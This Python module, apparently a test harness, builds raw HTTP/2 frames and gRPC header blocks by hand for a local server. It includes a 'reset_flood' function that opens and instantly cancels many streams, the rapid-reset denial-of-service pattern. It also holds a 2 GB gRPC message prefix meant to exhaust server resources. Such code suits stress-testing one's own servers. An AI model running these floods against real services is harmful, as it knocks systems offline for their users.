"""A minimal HTTP/2 client for frames that client libraries do not send."""

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = 0, 1, 2, 3, 4, 6
GOAWAY, WINDOW_UPDATE, CONTINUATION = 7, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
TOO_LARGE = b"\x00\x7f\xff\xff\xff"  # prefix of a gRPC message of 2 GB


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """A literal header field without indexing (HPACK)."""
    return b"\x00" + text(name) + text(value)


def text(string: str) -> bytes:
    """A string with its length, in HPACK (RFC 7541, 5.1)."""
    size, short = len(string), min(len(string), 127)
    if short < 127:
        return bytes([size]) + string.encode()
    more, length = size - 127, b"\x7f"
    while more >= 128:
        length += bytes([more % 128 + 128])
        more //= 128
    return length + bytes([more]) + string.encode()


def window_update(stream: int, more: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", more))


def request(method: str, token: str = "") -> bytes:
    """The header block of a gRPC call."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": "arena",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    if token:
        fields["authorization"] = f"Bearer {token}"
    return b"".join(header(name, value) for name, value in fields.items())


def connect(port: int) -> socket.socket:
    """A connection after the client preface."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def reset_flood(connection: socket.socket, block: bytes, first: int, count: int) -> None:
    """Opens calls and cancels each at once. Client streams have odd numbers."""
    reason = struct.pack(">I", CANCEL)
    streams = range(first, first + 2 * count, 2)
    connection.sendall(
        b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reason)
            for stream in streams
        )
    )
